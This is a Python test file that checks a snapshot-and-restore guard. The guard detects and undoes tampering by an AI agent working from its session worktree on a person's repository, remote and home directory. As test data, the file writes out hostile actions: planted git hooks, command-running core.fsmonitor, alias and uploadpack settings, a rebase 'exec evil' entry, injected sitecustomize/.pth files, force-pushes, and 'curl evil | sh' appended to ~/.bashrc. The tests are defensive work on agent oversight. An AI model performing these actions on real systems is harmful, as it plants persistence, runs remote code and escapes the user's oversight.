"""The snapshot of what the person owns: every hostile action an agent (or the tests it writes) could take as
the person is seen by `compare`, undone by `restore`, and after that a fresh snapshot equals the first one.

Each action is taken from inside the session's worktree, as the agent would take it. Against the scheduler
before snapshots (refs only), every one of them but the ref moves went through unseen."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from mcp_servers.core.workspace import Workspace
from scheduler import snapshot

from ..conftest import GitRepo, make_repo

BRANCH = "overnight/s"


@dataclass
class Person:
    """A person's repository with everything a snapshot covers: their checkout (with uncommitted and ignored
    files), another worktree, a bare `origin`, a home; and the session's worktree, made after the snapshot."""

    repo: GitRepo
    other: GitRepo
    session: GitRepo
    origin: Path
    home: Path
    ws: Workspace

    @property
    def git_dir(self) -> Path:
        return self.repo.root / ".git"


@pytest.fixture
def person(tmp_path: Path) -> tuple[Person, snapshot.Snapshot]:
    repo = make_repo(tmp_path / "repo", files={".gitignore": "build/\n"})
    repo.git("tag", "v1")
    repo.git("branch", "keep")
    repo.write("NOTES.txt", "my own uncommitted work\n")
    repo.write("build/out.bin", b"\0" * 100)
    repo.append("README.md", "a line I have not committed yet\n")
    origin = tmp_path / "origin.git"
    subprocess.run(["git", "init", "-q", "--bare", str(origin)], check=True)
    repo.git("remote", "add", "origin", str(origin))
    repo.git("push", "-q", "origin", "main", "v1")
    repo.git("worktree", "add", "-q", "-b", "feature", str(tmp_path / "other"))
    other = GitRepo(tmp_path / "other")
    other.write("draft.py", "X = 1\n")
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".bashrc").write_text("# my shell\n")
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE\n")
    ws = Workspace.open(repo.root, environ={**os.environ, "HOME": str(home)})
    session_root = tmp_path / "session"
    before = snapshot.take(ws, session_root=session_root, session_branch=BRANCH)
    repo.git("worktree", "add", "-q", "-b", BRANCH, str(session_root))
    session = GitRepo(session_root)
    return Person(repo, other, session, origin, home, ws), before


def _commit_in_session(p: Person) -> str:
    p.session.write("src/app/evil.py", "EVIL = 1\n")
    return p.session.commit("evil")


def _hook(p: Person) -> None:
    p.session.write(str(p.git_dir / "hooks" / "post-checkout"), "#!/bin/sh\necho pwned\n", mode=0o755)


def _sh(p: Person, command: str) -> None:
    subprocess.run(["sh", "-c", command], cwd=p.session.root, check=True, env={**os.environ, "HOME": str(p.home)})


# (name, action, the event it must raise: kind and a piece of `where`)
HOSTILE: list[tuple[str, Callable[[Person], object], str, str]] = [
    ("a hook planted", _hook, "git-file", "hooks/post-checkout"),
    ("core.fsmonitor set", lambda p: p.session.git("config", "core.fsmonitor", "echo pwned"), "git-file", "config"),
    ("an alias added", lambda p: p.session.git("config", "alias.st", "!echo pwned"), "git-file", "config"),
    ("info/exclude edited", lambda p: _sh(p, 'echo "*.py" >> "$(git rev-parse --git-common-dir)/info/exclude"'),
     "git-file", "info/exclude"),
    ("a branch moved", lambda p: p.session.git("update-ref", "refs/heads/main", _commit_in_session(p)), "ref",
     "refs/heads/main"),
    ("a tag moved", lambda p: p.session.git("tag", "-f", "v1", _commit_in_session(p)), "ref", "refs/tags/v1"),
    ("a branch created", lambda p: p.session.git("branch", "sneaky"), "ref", "refs/heads/sneaky"),
    ("a ref deleted", lambda p: p.session.git("branch", "-D", "keep"), "ref", "refs/heads/keep"),
    ("the person's HEAD detached", lambda p: p.repo.git("checkout", "-q", "--detach"), "head", "HEAD"),
    ("a file staged in the person's index", lambda p: p.repo.git("add", "README.md"), "index", "index"),
    ("the person's file edited", lambda p: p.repo.append("src/app/calc.py", "\nimport os\n"), "file",
     "src/app/calc.py"),
    ("the person's uncommitted file edited", lambda p: p.repo.append("NOTES.txt", "more\n"), "file", "NOTES.txt"),
    ("the person's untracked file deleted", lambda p: (p.repo.root / "NOTES.txt").unlink(), "file", "NOTES.txt"),
    ("a file added to the person's checkout", lambda p: p.repo.write("sitecustomize.py", "import os\n"), "file",
     "sitecustomize.py"),
    ("a file added in a new folder", lambda p: p.repo.write("evil/deep/x.pth", "import os\n"), "file",
     "evil/deep/x.pth"),
    ("a rebase planted to --continue", lambda p: p.repo.write(".git/rebase-merge/git-rebase-todo", "exec evil\n"),
     "git-file", "rebase-merge/git-rebase-todo"),
    ("another worktree's .git file redirected", lambda p: p.other.write(".git", "gitdir: /tmp/elsewhere\n"),
     "git-file", "other/.git"),
    ("another worktree's file edited", lambda p: p.other.append("draft.py", "Y = 2\n"), "file", "draft.py"),
    ("~/.bashrc appended", lambda p: _sh(p, 'echo "curl evil | sh" >> ~/.bashrc'), "home-file", ".bashrc"),
    ("a push by URL", lambda p: p.session.git("push", "-q", str(p.origin), f"{_commit_in_session(p)}:refs/heads/x"),
     "remote-ref", "refs/heads/x"),
    ("the remote's branch moved",
     lambda p: p.session.git("push", "-qf", str(p.origin), f"{_commit_in_session(p)}:main"),
     "remote-ref", "refs/heads/main"),
]  # fmt: skip


@pytest.mark.parametrize(("action", "kind", "where"), [h[1:] for h in HOSTILE], ids=[h[0] for h in HOSTILE])
def test_snapshot_sees_and_undoes_a_hostile_action(person: tuple[Person, snapshot.Snapshot], action: Callable[
        [Person], object], kind: str, where: str) -> None:  # fmt: skip
    p, before = person
    config = (p.git_dir / "config").read_bytes()
    action(p)
    events = snapshot.compare(before, snapshot.take(p.ws, like=before))
    assert any(e.kind == kind and where in e.where for e in events), [str(e) for e in events]
    done = snapshot.restore(p.ws, before, events)
    assert len(done) == len(events) and not [d for d in done if d.startswith("not put back")], done
    fresh = snapshot.take(p.ws, session_root=before.session_root, session_branch=BRANCH)
    assert snapshot.compare(before, fresh) == []
    assert snapshot.compare(before, snapshot.take(p.ws, like=before)) == []
    assert (p.git_dir / "config").read_bytes() == config
    assert not (p.repo.root / "evil").exists() and not (p.git_dir / "rebase-merge").exists()  # new folders too
    assert (p.git_dir / "hooks").is_dir() and (p.git_dir / "info").is_dir()


def test_snapshot_sees_a_worktree_deleted_but_not_one_git_prunes(person: tuple[Person, snapshot.Snapshot]) -> None:
    p, before = person
    gone = p.repo.root.parent / "gone"
    p.repo.git("worktree", "add", "-q", "--detach", str(gone))
    earlier = snapshot.take(p.ws, session_root=before.session_root, session_branch=BRANCH)
    subprocess.run(["rm", "-rf", str(gone)], check=True)
    [event] = snapshot.compare(earlier, snapshot.take(p.ws, like=earlier))
    assert (event.kind, event.where, event.after) == ("worktree", str(gone), None)
    assert snapshot.restore(p.ws, earlier, [event])[0].startswith("not put back: the worktree is gone")
    # a worktree already gone before the session: `git worktree prune` (the gate runs it) is no one's doing
    again = snapshot.take(p.ws, session_root=before.session_root, session_branch=BRANCH)
    p.repo.git("worktree", "prune")
    assert snapshot.compare(again, snapshot.take(p.ws, like=again)) == []


def test_snapshot_of_an_untouched_person_has_no_events(person: tuple[Person, snapshot.Snapshot]) -> None:
    p, before = person
    assert snapshot.compare(before, snapshot.take(p.ws, like=before)) == []
    assert snapshot.compare(before, snapshot.take(p.ws, session_root=p.session.root, session_branch=BRANCH)) == []


def test_snapshot_leaves_the_sessions_own_worktree_and_branch_out(person: tuple[Person, snapshot.Snapshot]) -> None:
    p, before = person
    _commit_in_session(p)  # the branch moves
    p.session.write("scratch.txt", "work in progress\n")  # its files change
    p.session.git("checkout", "-q", "--detach")  # its HEAD moves
    p.session.git("config", "--worktree", "core.x", "y", check=False)
    assert snapshot.compare(before, snapshot.take(p.ws, like=before)) == []
    p.repo.git("worktree", "remove", "--force", str(p.session.root))  # and it goes away
    assert snapshot.compare(before, snapshot.take(p.ws, like=before)) == []


def test_snapshot_keeps_no_bytes_of_ssh_keys_and_cannot_put_them_back(person: tuple[Person, snapshot.Snapshot]
                                                                      ) -> None:  # fmt: skip
    p, before = person
    key = str(p.home / ".ssh" / "id_ed25519")
    assert before.files[key].data is None and not before.files[key].digest
    (p.home / ".ssh" / "id_ed25519").write_text("REPLACED\n")
    [event] = snapshot.compare(before, snapshot.take(p.ws, like=before))
    assert event.kind == "home-file" and event.where == key
    [done] = snapshot.restore(p.ws, before, [event])
    assert done.startswith("not put back: only its stat was kept")


def test_snapshot_sees_an_ignored_file_change_it_cannot_undo(person: tuple[Person, snapshot.Snapshot]) -> None:
    p, before = person  # ignored files (build output, virtualenvs) are many: stat only, never read at first
    p.repo.write("build/out.bin", b"\1" * 100)
    [event] = snapshot.compare(before, snapshot.take(p.ws, like=before))
    assert (event.kind, event.where) == ("file", "build/out.bin")
    assert snapshot.restore(p.ws, before, [event]) == ["not put back: only its stat was kept; restore it from a backup"]


def test_snapshot_moves_what_it_replaces_aside(person: tuple[Person, snapshot.Snapshot], tmp_path: Path) -> None:
    p, before = person
    _hook(p)
    p.repo.write("NOTES.txt", "overwritten\n")
    events = snapshot.compare(before, snapshot.take(p.ws, like=before))
    done = snapshot.restore(p.ws, before, events, keep=tmp_path / "kept")
    assert (tmp_path / "kept" / str(p.git_dir / "hooks" / "post-checkout").lstrip("/")).read_text().endswith("pwned\n")
    assert (tmp_path / "kept" / str(p.repo.root / "NOTES.txt").lstrip("/")).read_text() == "overwritten\n"
    assert (p.repo.root / "NOTES.txt").read_text() == "my own uncommitted work\n"
    assert any(d.startswith("removed (kept as") for d in done)


def test_snapshot_check_puts_git_config_back_before_running_git(person: tuple[Person, snapshot.Snapshot],
                                                                 tmp_path: Path) -> None:  # fmt: skip
    p, before = person
    marker = tmp_path / "ran"
    p.session.git("config", "core.fsmonitor", f"touch {marker}; false")
    p.session.git("config", "remote.origin.uploadpack", f"touch {marker}; git-upload-pack")  # run by ls-remote
    _hook(p)
    p.repo.append("README.md", "edited\n")
    said = snapshot.check(p.ws, before)
    assert any("config" in line and "put back from the saved copy" in line for line in said), said
    assert any("README.md" in line and "put back" in line for line in said), said
    assert not marker.exists()
    assert snapshot.check(p.ws, before) == []


def test_snapshot_says_a_remote_that_cannot_be_reached_is_unknown(person: tuple[Person, snapshot.Snapshot]) -> None:
    p, before = person
    p.origin.rename(p.origin.with_name("gone.git"))
    after = snapshot.take(p.ws, like=before)
    assert before.remotes["origin"] and after.remotes["origin"] is None
    assert snapshot.compare(before, after) == []


def test_snapshot_event_reads_in_plain_words(person: tuple[Person, snapshot.Snapshot]) -> None:
    p, before = person
    p.session.git("branch", "-D", "keep")
    _hook(p)
    texts = [str(e) for e in snapshot.compare(before, snapshot.take(p.ws, like=before))]
    head = before.refs["refs/heads/keep"]
    assert f"the ref refs/heads/keep was deleted (it was {head[:12]})" in texts
    assert any(t.startswith(f"git's file {p.git_dir / 'hooks' / 'post-checkout'} was added (a file of") for t in texts)


def test_snapshot_never_writes_through_a_folder_replaced_by_a_link(person: tuple[Person, snapshot.Snapshot],
                                                                   tmp_path: Path) -> None:  # fmt: skip
    p, before = person
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    subprocess.run(["rm", "-rf", str(p.repo.root / "src" / "app")], check=True)
    (p.repo.root / "src" / "app").symlink_to(elsewhere)
    events = snapshot.compare(before, snapshot.take(p.ws, like=before))
    assert {(e.where, e.before is None, e.after is None) for e in events} >= {
        ("src/app", True, False), ("src/app/calc.py", False, True)}  # fmt: skip
    snapshot.restore(p.ws, before, events)  # the link goes first, then the files come back in a real folder
    assert list(elsewhere.iterdir()) == [] and not (p.repo.root / "src" / "app").is_symlink()
    assert snapshot.compare(before, snapshot.take(p.ws, like=before)) == []


def test_snapshot_follows_a_dotfile_linked_from_the_home(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    home, dotfiles = tmp_path / "home", tmp_path / "dotfiles"
    home.mkdir()
    dotfiles.mkdir()
    (dotfiles / "bashrc").write_text("# kept in a repository of dotfiles\n")
    (home / ".bashrc").symlink_to(dotfiles / "bashrc")
    ws = Workspace.open(repo.root, environ={**os.environ, "HOME": str(home)})
    before = snapshot.take(ws, remotes=False)
    with (home / ".bashrc").open("a") as handle:  # through the link: the link itself does not change
        handle.write("curl evil | sh\n")
    [event] = snapshot.compare(before, snapshot.take(ws, like=before))
    assert (event.kind, event.where) == ("home-file", str(dotfiles / "bashrc"))
    assert snapshot.restore(ws, before, [event])[0].startswith("put back from the saved copy")
    assert (dotfiles / "bashrc").read_text() == "# kept in a repository of dotfiles\n"
